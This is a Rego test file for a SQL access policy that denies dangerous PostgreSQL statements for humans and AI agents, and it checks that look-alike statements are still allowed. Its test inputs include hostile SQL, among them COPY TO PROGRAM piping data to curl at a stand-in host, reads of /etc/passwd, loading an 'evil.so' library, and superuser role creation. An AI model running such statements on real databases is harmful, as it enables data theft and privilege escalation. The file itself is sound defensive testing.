# The SQL statements the default policy always denies, for every identity
# and target, and their look-alikes that it does not.
package warden_test.sql_deny

import data.warden_test.lib

# deny_code: the statement alone, by a human on staging (the most permissive
# context), is denied with the code.
denied_with(s, code) if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [s]))
	d.action == "deny"
	code in lib.codes(d)
	d.statements[0].action == "deny"
	not "review" in object.keys(d)
}

allowed(s) if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [s]))
	d.action == "allow"
	d.reasons == []
}

# --- DROP -------------------------------------------------------------------

test_drop_table_denied if denied_with(lib.drop_table(0), "sql.drop")

test_drop_any_object_type_denied if {
	every s in [
		lib.stmt(0, {"node": "DropStmt", "verb": "drop", "object_type": "index", "category": "ddl", "writes": true, "text": "DROP INDEX orders_email_idx"}),
		lib.stmt(0, {"node": "DropStmt", "verb": "drop", "object_type": "schema", "category": "ddl", "writes": true, "text": "DROP SCHEMA reporting CASCADE"}),
		lib.stmt(0, {"node": "DropStmt", "verb": "drop", "object_type": "view", "category": "ddl", "writes": true, "text": "DROP VIEW IF EXISTS v_orders"}),
		lib.stmt(0, {"node": "DropStmt", "verb": "drop", "object_type": "function", "category": "ddl", "writes": true, "text": "DROP FUNCTION f()"}),
		lib.stmt(0, {"node": "DropdbStmt", "verb": "drop", "object_type": "database", "category": "ddl", "writes": true, "text": "DROP DATABASE orders"}),
		lib.stmt(0, {"node": "DropOwnedStmt", "verb": "drop", "object_type": null, "category": "ddl", "writes": true, "text": "DROP OWNED BY app"}),
	] {
		denied_with(s, "sql.drop")
	}
}

# Judged by the node too, should the verb be reported differently.
test_drop_node_with_other_verb_denied if {
	denied_with(lib.stmt(0, {"node": "DropStmt", "verb": "other", "category": "ddl", "writes": true, "text": "DROP TABLE t"}), "sql.drop")
}

test_alter_table_drop_column_not_a_drop if {
	allowed(lib.stmt(0, {
		"node": "AlterTableStmt", "verb": "alter", "object_type": "table", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "orders", "write")], "text": "ALTER TABLE public.orders DROP COLUMN note",
	}))
}

test_create_table_allowed if {
	allowed(lib.stmt(0, {
		"node": "CreateStmt", "verb": "create", "object_type": "table", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "notes", "write")], "text": "CREATE TABLE public.notes (id int)",
	}))
}

# --- TRUNCATE ---------------------------------------------------------------

test_truncate_denied if {
	denied_with(
		lib.stmt(0, {
			"node": "TruncateStmt", "verb": "truncate", "object_type": "table", "category": "write", "writes": true,
			"tables": [lib.tbl("public", "orders", "write")], "text": "TRUNCATE public.orders",
		}),
		"sql.truncate",
	)
}

test_delete_with_where_is_not_truncate if allowed(lib.delete_orders(0, true))

# --- ALTER SYSTEM -----------------------------------------------------------

test_alter_system_denied if {
	denied_with(
		lib.stmt(0, {
			"node": "AlterSystemStmt", "verb": "alter", "object_type": "system", "category": "utility", "writes": true,
			"settings": ["archive_command"], "text": "ALTER SYSTEM SET archive_command = 'curl http://x'",
		}),
		"sql.alter_system",
	)
}

test_alter_table_is_not_alter_system if {
	allowed(lib.stmt(0, {
		"node": "AlterTableStmt", "verb": "alter", "object_type": "table", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "orders", "write")], "text": "ALTER TABLE public.orders ADD COLUMN note text",
	}))
}

# --- roles ------------------------------------------------------------------

test_role_management_denied if {
	every s in [
		lib.stmt(0, {"node": "CreateRoleStmt", "verb": "create", "object_type": "role", "category": "dcl", "writes": true, "text": "CREATE ROLE intruder LOGIN SUPERUSER"}),
		lib.stmt(0, {"node": "CreateRoleStmt", "verb": "create", "object_type": "role", "category": "dcl", "writes": true, "text": "CREATE USER intruder PASSWORD 'x'"}),
		lib.stmt(0, {"node": "AlterRoleStmt", "verb": "alter", "object_type": "role", "category": "dcl", "writes": true, "text": "ALTER ROLE app SUPERUSER"}),
		lib.stmt(0, {"node": "AlterRoleSetStmt", "verb": "alter", "object_type": "role", "category": "dcl", "writes": true, "settings": ["search_path"], "text": "ALTER ROLE app SET search_path = evil"}),
		lib.stmt(0, {"node": "RenameStmt", "verb": "alter", "object_type": "role", "category": "dcl", "writes": true, "text": "ALTER ROLE app RENAME TO app_old"}),
	] {
		denied_with(s, "sql.role_management")
	}
}

test_drop_role_denied_as_drop_and_role_management if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [lib.stmt(0, {
		"node": "DropRoleStmt", "verb": "drop", "object_type": "role", "category": "dcl", "writes": true,
		"text": "DROP ROLE app",
	})]))
	d.action == "deny"
	lib.codes(d) == {"sql.drop", "sql.role_management"}
}

# Judged by the node too.
test_role_node_without_object_type_denied if {
	denied_with(lib.stmt(0, {"node": "AlterRoleStmt", "verb": "alter", "category": "dcl", "writes": true, "text": "ALTER USER app CREATEDB"}), "sql.role_management")
}

test_rename_table_is_not_role_management if {
	allowed(lib.stmt(0, {
		"node": "RenameStmt", "verb": "alter", "object_type": "table", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "orders", "write")], "text": "ALTER TABLE public.orders RENAME TO orders_old",
	}))
}

# --- GRANT, REVOKE, default privileges ---------------------------------------

test_privileges_denied if {
	every s in [
		lib.stmt(0, {"node": "GrantStmt", "verb": "grant", "object_type": "table", "category": "dcl", "writes": true, "text": "GRANT ALL ON public.orders TO PUBLIC"}),
		lib.stmt(0, {"node": "GrantStmt", "verb": "revoke", "object_type": "table", "category": "dcl", "writes": true, "text": "REVOKE SELECT ON public.orders FROM auditor"}),
		lib.stmt(0, {"node": "GrantRoleStmt", "verb": "grant", "object_type": null, "category": "dcl", "writes": true, "text": "GRANT pg_read_server_files TO app"}),
		lib.stmt(0, {"node": "AlterDefaultPrivilegesStmt", "verb": "alter", "object_type": "default_privileges", "category": "dcl", "writes": true, "text": "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO app"}),
		lib.stmt(0, {"node": "ReassignOwnedStmt", "verb": "other", "category": "dcl", "writes": true, "text": "REASSIGN OWNED BY admin TO app"}),
	] {
		denied_with(s, "sql.privileges")
	}
}

test_reading_grants_catalog_allowed if {
	allowed(lib.stmt(0, {
		"tables": [lib.tbl("information_schema", "role_table_grants", "read")],
		"text": "SELECT * FROM information_schema.role_table_grants",
	}))
}

# --- role or authorization changes -------------------------------------------

set_stmt(verb, setting_names, text) := lib.stmt(0, {
	"node": "VariableSetStmt", "verb": verb, "category": "session",
	"settings": setting_names, "text": text,
})

test_role_change_denied if {
	every s in [
		set_stmt("set", ["role"], "SET ROLE postgres"),
		set_stmt("set", ["role"], "SET LOCAL ROLE postgres"),
		set_stmt("reset", ["role"], "RESET ROLE"),
		set_stmt("set", ["session_authorization"], "SET SESSION AUTHORIZATION postgres"),
		set_stmt("reset", ["session_authorization"], "RESET SESSION AUTHORIZATION"),
		lib.stmt(0, {"functions": ["set_config"], "settings": ["role"], "text": "SELECT set_config('role', 'postgres', false)"}),
		lib.stmt(0, {"functions": ["pg_catalog.set_config"], "settings": ["*"], "text": "SELECT pg_catalog.set_config(name, 'postgres', false) FROM t"}),
		lib.stmt(0, {"node": "DiscardStmt", "verb": "discard", "category": "session", "text": "DISCARD ALL"}),
	] {
		denied_with(s, "sql.role_change")
	}
}

test_session_settings_allowed if {
	every s in [
		set_stmt("set", ["search_path"], "SET search_path = reporting, public"),
		set_stmt("set", ["statement_timeout"], "SET LOCAL statement_timeout = '5s'"),
		set_stmt("reset", ["all"], "RESET ALL"),
		lib.stmt(0, {"functions": ["set_config"], "settings": ["application_name"], "text": "SELECT set_config('application_name', 'x', false)"}),
		lib.stmt(0, {"node": "DiscardStmt", "verb": "discard", "category": "session", "text": "DISCARD PLANS"}),
	] {
		allowed(s)
	}
}

# --- COPY ---------------------------------------------------------------------

copy_stmt(direction, program, file, text) := lib.stmt(0, {
	"node": "CopyStmt", "verb": "copy", "category": "utility", "writes": direction == "from",
	"tables": [lib.tbl("public", "orders", {"to": "read", "from": "write"}[direction])],
	"copy": {"direction": direction, "program": program, "file": file}, "text": text,
})

test_copy_program_denied if {
	denied_with(copy_stmt("to", true, false, "COPY public.orders TO PROGRAM 'curl -d @- http://x'"), "sql.copy_program")
	denied_with(copy_stmt("from", true, false, "COPY public.orders FROM PROGRAM 'id'"), "sql.copy_program")
}

test_copy_file_denied if {
	denied_with(copy_stmt("to", false, true, "COPY public.orders TO '/tmp/orders.csv'"), "sql.copy_file")
	denied_with(copy_stmt("from", false, true, "COPY public.orders FROM '/etc/passwd'"), "sql.copy_file")
}

test_copy_stdin_stdout_allowed if {
	allowed(copy_stmt("to", false, false, "COPY public.orders TO STDOUT"))
	allowed(copy_stmt("from", false, false, "COPY public.orders FROM STDIN"))
}

# Fail closed: a COPY without its details is treated as both.
test_copy_without_details_denied if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [lib.stmt(0, {"node": "CopyStmt", "verb": "copy", "category": "utility", "text": "COPY t TO '/x'"})]))
	d.action == "deny"
	lib.codes(d) == {"sql.copy_program", "sql.copy_file"}
}

# --- server file and large-object functions ------------------------------------

fn_stmt(functions) := lib.stmt(0, {"functions": functions, "text": concat("", ["SELECT ", functions[0], "(...)"])})

test_server_file_functions_denied if {
	every f in [
		"pg_read_file", "pg_catalog.pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_stat_file",
		"pg_ls_logdir", "pg_ls_waldir", "pg_ls_tmpdir", "pg_ls_archive_statusdir", "lo_import",
		"pg_catalog.lo_export", "lo_from_bytea", "lo_get", "lo_put", "lo_open", "loread", "lowrite",
		"lo_unlink", "lo_create", "lo_creat", "lo_truncate", "\"pg_catalog\".\"pg_ls_dir\"",
	] {
		denied_with(fn_stmt([f]), "sql.server_file_function")
	}
}

test_server_file_function_among_others_denied if {
	denied_with(fn_stmt(["lower", "count", "pg_catalog.pg_read_file"]), "sql.server_file_function")
}

test_similar_function_names_allowed if {
	allowed(fn_stmt(["pg_size_pretty", "pg_catalog.pg_relation_size"]))
	allowed(fn_stmt(["public.pg_read_file_wrapper"]))
	allowed(fn_stmt(["my_lo_import"]))
}

# --- dblink -------------------------------------------------------------------

test_dblink_denied if {
	every f in ["dblink", "dblink_exec", "public.dblink_connect", "extensions.dblink_send_query"] {
		denied_with(fn_stmt([f]), "sql.dblink")
	}
}

test_function_merely_containing_dblink_allowed if {
	allowed(fn_stmt(["my_dblink_helper"]))
	allowed(fn_stmt(["dblink_schema.lower"]))
}

# --- CREATE EXTENSION ---------------------------------------------------------

test_create_extension_denied if {
	denied_with(
		lib.stmt(0, {"node": "CreateExtensionStmt", "verb": "create", "object_type": "extension", "category": "ddl", "writes": true, "text": "CREATE EXTENSION dblink"}),
		"sql.create_extension",
	)
}

test_create_index_is_not_create_extension if {
	allowed(lib.stmt(0, {
		"node": "IndexStmt", "verb": "create", "object_type": "index", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "orders", "write")], "text": "CREATE INDEX ON public.orders (email)",
	}))
}

# --- untrusted languages ------------------------------------------------------

function_in(language) := lib.stmt(0, {
	"node": "CreateFunctionStmt", "verb": "create", "object_type": "function", "category": "ddl", "writes": true,
	"language": language, "text": "CREATE FUNCTION f() RETURNS int AS $$ ... $$",
})

do_in(language) := lib.stmt(0, {
	"node": "DoStmt", "verb": "do", "category": "utility", "writes": true,
	"language": language, "text": "DO $$ ... $$",
})

test_untrusted_language_functions_denied if {
	every lang in ["c", "internal", "plpythonu", "plpython2u", "plpython3u", "plperlu", "pltclu", "plv8u", "plluau", "javau", "plr", "plsh", "PLPython3U"] {
		denied_with(function_in(lang), "sql.untrusted_language")
	}
}

test_untrusted_language_procedure_denied if {
	denied_with(
		lib.stmt(0, {"node": "CreateFunctionStmt", "verb": "create", "object_type": "procedure", "category": "ddl", "writes": true, "language": "plpython3u", "text": "CREATE PROCEDURE p() ..."}),
		"sql.untrusted_language",
	)
}

test_untrusted_do_denied_for_humans if denied_with(do_in("plperlu"), "sql.untrusted_language")

# Fail closed: a function definition whose language is not reported.
test_function_without_language_denied if {
	denied_with(lib.stmt(0, {"node": "CreateFunctionStmt", "verb": "create", "object_type": "function", "category": "ddl", "writes": true, "text": "CREATE FUNCTION f() ..."}), "sql.untrusted_language")
}

test_create_untrusted_language_denied if {
	denied_with(lib.stmt(0, {"node": "CreatePLangStmt", "verb": "create", "object_type": "language", "category": "ddl", "writes": true, "language": "plpython3u", "text": "CREATE LANGUAGE plpython3u"}), "sql.untrusted_language")
}

test_load_library_denied if {
	denied_with(lib.stmt(0, {"node": "LoadStmt", "verb": "other", "category": "utility", "text": "LOAD '/tmp/evil.so'"}), "sql.untrusted_language")
}

test_trusted_language_functions_allowed if {
	every lang in ["sql", "plpgsql", "plperl", "pltcl", "plv8", "PLpgSQL"] {
		allowed(function_in(lang))
	}
}

test_trusted_do_allowed_for_humans if {
	allowed(do_in("plpgsql"))
	allowed(lib.stmt(0, {"node": "DoStmt", "verb": "do", "category": "utility", "writes": true, "text": "DO $$ BEGIN PERFORM 1; END $$"}))
}

# --- DO for agents ------------------------------------------------------------

test_do_denied_for_agents if {
	d := lib.decide(lib.sql_input(lib.agent, lib.staging_db, [do_in("plpgsql")]))
	d.action == "deny"
	lib.codes(d) == {"sql.anonymous_block"}
}

test_do_allowed_for_humans if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [do_in("plpgsql")]))
	d.action == "allow"
	not "sql.anonymous_block" in lib.codes(d)
}

# --- foreign servers ----------------------------------------------------------

test_foreign_servers_denied if {
	every s in [
		lib.stmt(0, {"node": "CreateForeignServerStmt", "verb": "create", "object_type": "server", "category": "ddl", "writes": true, "text": "CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')"}),
		lib.stmt(0, {"node": "AlterForeignServerStmt", "verb": "alter", "object_type": "server", "category": "ddl", "writes": true, "text": "ALTER SERVER other OPTIONS (SET host 'y')"}),
		lib.stmt(0, {"node": "CreateUserMappingStmt", "verb": "create", "object_type": "user_mapping", "category": "ddl", "writes": true, "text": "CREATE USER MAPPING FOR app SERVER other OPTIONS (user 'a', password 'b')"}),
		lib.stmt(0, {"node": "AlterUserMappingStmt", "verb": "alter", "object_type": "user_mapping", "category": "ddl", "writes": true, "text": "ALTER USER MAPPING FOR app SERVER other OPTIONS (SET password 'c')"}),
		lib.stmt(0, {"node": "CreateSubscriptionStmt", "verb": "create", "object_type": "subscription", "category": "ddl", "writes": true, "text": "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p"}),
	] {
		denied_with(s, "sql.foreign_server")
	}
}

test_create_view_is_not_foreign_server if {
	allowed(lib.stmt(0, {
		"node": "ViewStmt", "verb": "create", "object_type": "view", "category": "ddl", "writes": true,
		"tables": [lib.tbl("public", "orders", "read"), lib.tbl("public", "v_orders", "write")],
		"text": "CREATE VIEW public.v_orders AS SELECT * FROM public.orders",
	}))
}

# --- EXECUTE of an unknown prepared statement ------------------------------------

test_execute_unknown_prepared_denied if {
	denied_with(
		lib.stmt(0, {"node": "ExecuteStmt", "verb": "execute", "category": "utility", "writes": false, "prepared_unknown": true, "text": "EXECUTE stmt1(42)"}),
		"sql.unknown_prepared",
	)
}

test_execute_known_prepared_allowed if {
	allowed(lib.stmt(0, {"node": "ExecuteStmt", "verb": "execute", "category": "utility", "writes": false, "prepared_unknown": false, "text": "EXECUTE stmt1(42)"}))
	allowed(lib.stmt(0, {"node": "ExecuteStmt", "verb": "execute", "category": "utility", "writes": false, "text": "EXECUTE stmt1(42)"}))
}

# --- parse errors -------------------------------------------------------------

test_sql_parse_error_denied if {
	inp := lib.sql_input(lib.human, lib.staging_db, [])
	d := lib.decide(object.union(inp, {"command": {"sql": {"parse_error": "syntax error at or near \"FORM\""}}}))
	d.action == "deny"
	d.reasons == [{"code": "sql.parse_error", "message": "the query could not be parsed, so it cannot be checked"}]
	d.statements == []
}

test_sql_parse_error_denied_for_agents_with_target_grant if {
	inp := lib.sql_input(lib.agent, lib.production_db, [])
	d := lib.decide(object.union(inp, {
		"command": {"sql": {"parse_error": "syntax error"}},
		"grants": [lib.grant("req-1", {"kind": "target"})],
	}))
	d.action == "deny"
	lib.codes(d) == {"sql.parse_error"}
	d.grants_used == []
}

test_no_parse_error_allowed if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [lib.select_orders(0)]))
	d.action == "allow"
	not "sql.parse_error" in lib.codes(d)
}

test_null_parse_error_is_no_parse_error if {
	inp := lib.sql_input(lib.human, lib.staging_db, [lib.select_orders(0)])
	d := lib.decide(object.union(inp, {"command": {"sql": {"parse_error": null}}}))
	d.action == "allow"
}

# --- ownership, row security, other dcl (fail closed) -------------------------

test_ownership_and_row_security_denied_as_privileges if {
	every s in [
		lib.stmt(0, {"node": "AlterTableStmt", "verb": "alter", "object_type": "table", "category": "dcl", "writes": true, "tables": [lib.tbl("public", "orders", "write")], "text": "ALTER TABLE public.orders OWNER TO bob"}),
		lib.stmt(0, {"node": "AlterOwnerStmt", "verb": "alter", "object_type": "function", "category": "dcl", "writes": true, "text": "ALTER FUNCTION f() OWNER TO bob"}),
		lib.stmt(0, {"node": "AlterOwnerStmt", "verb": "alter", "object_type": "schema", "category": "ddl", "writes": true, "text": "ALTER SCHEMA s OWNER TO bob"}),
		lib.stmt(0, {"node": "AlterTableStmt", "verb": "alter", "object_type": "table", "category": "dcl", "writes": true, "text": "ALTER TABLE t DISABLE ROW LEVEL SECURITY"}),
		lib.stmt(0, {"node": "CreatePolicyStmt", "verb": "create", "object_type": "policy", "category": "dcl", "writes": true, "text": "CREATE POLICY p ON t USING (true)"}),
		lib.stmt(0, {"node": "AlterPolicyStmt", "verb": "alter", "object_type": "policy", "writes": true, "text": "ALTER POLICY p ON t USING (true)"}),
		lib.stmt(0, {"node": "SecLabelStmt", "verb": "security_label", "object_type": "column", "category": "dcl", "writes": true, "text": "SECURITY LABEL FOR anon ON COLUMN t.c IS NULL"}),
		lib.stmt(0, {"node": "Unknown", "verb": "reassign", "category": "dcl", "writes": true, "text": "REASSIGN OWNED BY a TO b"}),
		lib.stmt(0, {"node": "Unknown", "verb": "other", "category": "DCL", "writes": true, "text": "SOMETHING NEW"}),
	] {
		d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [s]))
		d.action == "deny"
		lib.codes(d) == {"sql.privileges"}
	}
}

# A plain-looking statement reported as dcl is not plain.
test_select_reported_as_dcl_denied if denied_with(lib.stmt(0, {"category": "dcl"}), "sql.privileges")

# sql.privileges is only the fallback: a dcl statement denied for another
# reason keeps just that reason.
test_dcl_fallback_not_added_to_other_codes if {
	d := lib.decide(lib.sql_input(lib.human, lib.staging_db, [lib.stmt(0, {"node": "CreateRoleStmt", "verb": "create", "object_type": "role", "category": "dcl", "writes": true, "text": "CREATE ROLE r"})]))
	lib.codes(d) == {"sql.role_management"}
}

test_ddl_alter_table_and_policy_comment_allowed if {
	every s in [
		lib.stmt(0, {"node": "AlterTableStmt", "verb": "alter", "object_type": "table", "category": "ddl", "writes": true, "text": "ALTER TABLE t ADD COLUMN c int"}),
		lib.stmt(0, {"node": "CommentStmt", "verb": "comment", "object_type": "policy", "category": "ddl", "writes": true, "text": "COMMENT ON POLICY p ON t IS 'x'"}),
	] {
		allowed(s)
	}
}
